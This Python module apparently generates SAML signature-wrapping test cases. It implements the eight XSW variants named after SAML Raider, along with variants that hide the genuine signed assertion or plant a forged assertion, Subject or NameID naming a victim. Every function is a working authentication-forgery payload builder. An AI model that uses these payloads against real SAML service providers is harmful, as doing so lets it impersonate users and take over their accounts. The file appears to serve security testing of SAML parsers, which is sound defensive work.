"""Signature wrapping, XSW1 to XSW8 in the numbering of SAML Raider, and copies in places that nobody looks into."""

from documents import ALICE, ASSERTION, DSIG, PROTOCOL, VICTIM, Response, parse, sign, write


def _one(node, name):
    return next(child for child in node.childNodes if child.nodeType == child.ELEMENT_NODE and child.localName == name)


def _forged(element):
    """A copy that names the victim."""
    copy = element.cloneNode(True)
    for text in _texts(copy):
        text.data = text.data.replace(ALICE, VICTIM).replace("alice@", "victim@")
    return copy


def _texts(node):
    for child in node.childNodes:
        if child.nodeType == child.TEXT_NODE:
            yield child
        else:
            yield from _texts(child)


def _forge(element):
    for text in _texts(element):
        text.data = text.data.replace(ALICE, VICTIM).replace("alice@", "victim@")


def _unsigned(element):
    copy = element.cloneNode(True)
    for child in list(copy.childNodes):
        if child.nodeType == child.ELEMENT_NODE and child.localName == "Signature":
            copy.removeChild(child)
    return copy


def _signature(element):
    return next((child for child in element.childNodes if child.nodeType == child.ELEMENT_NODE and child.localName == "Signature"), None)


def xsw1(dom):
    """A copy of the response within its signature; the outer one is forged."""
    response = dom.documentElement
    signature = _signature(response) or _signature(_one(response, "Assertion"))
    copy = _unsigned(response)
    _forge(response)
    response.setAttribute("ID", "_evil-response")
    signature.appendChild(copy)


def xsw2(dom):
    """As the first, with the copy before the signature."""
    response = dom.documentElement
    signature = _signature(response) or _signature(_one(response, "Assertion"))
    copy = _unsigned(response)
    _forge(response)
    response.setAttribute("ID", "_evil-response")
    signature.parentNode.insertBefore(copy, signature)


def xsw3(dom):
    """A forged assertion before the real one."""
    response, assertion = dom.documentElement, _one(dom.documentElement, "Assertion")
    evil = _unsigned(_forged(assertion))
    evil.setAttribute("ID", "_evil-assertion")
    response.insertBefore(evil, assertion)


def xsw4(dom):
    """A forged assertion around the real one."""
    response, assertion = dom.documentElement, _one(dom.documentElement, "Assertion")
    evil = _unsigned(_forged(assertion))
    evil.setAttribute("ID", "_evil-assertion")
    response.replaceChild(evil, assertion)
    evil.appendChild(assertion)


def xsw5(dom):
    """The signed assertion is forged, and a real copy without a signature stands at the end."""
    response, assertion = dom.documentElement, _one(dom.documentElement, "Assertion")
    copy = _unsigned(assertion)
    _forge(assertion)
    assertion.setAttribute("ID", "_evil-assertion")
    response.appendChild(copy)


def xsw6(dom):
    """As the fifth, with the copy within the signature."""
    response, assertion = dom.documentElement, _one(dom.documentElement, "Assertion")
    copy = _unsigned(assertion)
    _forge(assertion)
    assertion.setAttribute("ID", "_evil-assertion")
    (_signature(assertion) or _signature(response)).appendChild(copy)


def xsw7(dom):
    """A forged assertion in the extensions, which schemas allow anything in."""
    response, assertion = dom.documentElement, _one(dom.documentElement, "Assertion")
    extensions = dom.createElementNS(PROTOCOL, "samlp:Extensions")
    extensions.appendChild(_unsigned(_forged(assertion)))
    response.insertBefore(extensions, assertion)


def xsw8(dom):
    """As the sixth, with the copy in an Object of the signature."""
    response, assertion = dom.documentElement, _one(dom.documentElement, "Assertion")
    copy = _unsigned(assertion)
    _forge(assertion)
    assertion.setAttribute("ID", "_evil-assertion")
    target = dom.createElementNS(DSIG, "ds:Object")
    target.appendChild(copy)
    (_signature(assertion) or _signature(response)).appendChild(target)


NUMBERED = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
SIGNED = {
    "response-signed": {"response": True},
    "assertion-signed": {"assertion": True},
    "both-signed": {"response": True, "assertion": True},
}


def numbered(key):
    for signed, where in SIGNED.items():
        document = sign(Response().xml(), key, **where)
        for attack in NUMBERED:
            dom = parse(document)
            attack(dom)
            yield f"{attack.__name__}-{signed}", write(dom)


# Where the genuine assertion is hidden, as a path from the response, and what is made on the way.
HIDING_PLACES = {
    "status-detail": ("Status", "samlp:StatusDetail"),
    "extensions": ("samlp:Extensions",),
    "advice": ("Assertion", "saml:Advice"),
    "confirmation-data": ("Assertion", "Subject", "SubjectConfirmation", "SubjectConfirmationData"),
    "key-info": ("Assertion", "Signature", "KeyInfo"),
    "signed-info": ("Assertion", "Signature", "SignedInfo"),
    "signature-value": ("Assertion", "Signature", "SignatureValue"),
    "object": ("Assertion", "Signature", "ds:Object"),
    "attribute-value": ("Assertion", "AttributeStatement", "Attribute", "AttributeValue"),
    "audience": ("Assertion", "Conditions", "AudienceRestriction", "Audience"),
    "status-code": ("Status", "StatusCode"),
    "issuer": ("Issuer",),
    "response": (),
}


def hidden(key):
    """The real, signed assertion is hidden, and a forged one stands in its place: without a signature, with the real one's, and
    with the real one's id."""
    for signed, where in SIGNED.items():
        document = sign(Response().xml(), key, **where)
        for place, path in HIDING_PLACES.items():
            for variant in ("unsigned", "signature-kept", "same-id"):
                dom = parse(document)
                response = dom.documentElement
                real = _one(response, "Assertion")
                evil = _forged(real)
                if variant == "unsigned":
                    evil = _unsigned(evil)
                if variant != "same-id":
                    evil.setAttribute("ID", "_evil-assertion")
                response.replaceChild(evil, real)
                target = _walk(dom, response, path, evil)
                if target is None:
                    continue
                target.appendChild(real)
                yield f"hidden-in-{place}-{variant}-{signed}", write(dom)


def planted(key):
    """A forged assertion, or NameID, is planted where a careless search finds it first; what is signed stays where it is."""
    document = sign(Response().xml(), key, assertion=True)
    for place, path in HIDING_PLACES.items():
        if path[:1] == ("Assertion",) and path[1:2] != ("Signature",):
            continue
        for what in ("Assertion", "Subject", "NameID"):
            dom = parse(document)
            response = dom.documentElement
            real = _one(response, "Assertion")
            evil = _unsigned(_forged(real))
            evil.setAttribute("ID", "_evil-assertion")
            if what != "Assertion":
                evil = _one(evil, "Subject")
            if what == "NameID":
                evil = _one(evil, "NameID")
            target = _walk(dom, response, path, real)
            if target is None:
                continue
            target.insertBefore(evil, target.firstChild)
            yield f"planted-{what}-in-{place}", write(dom)


def _walk(dom, response, path, assertion):
    node = response
    for step in path:
        if ":" in step:
            prefix = step.split(":")[0]
            made = dom.createElementNS({"samlp": PROTOCOL, "saml": ASSERTION, "ds": DSIG}[prefix], step)
            if prefix == "ds":
                made.setAttribute("xmlns:ds", DSIG)
            node.appendChild(made)
            node = made
        elif step == "Assertion":
            node = assertion
        elif step == "Signature":
            node = _signature(assertion) or _signature(response)
        else:
            node = _one(node, step)
        if node is None:
            return None
    return node
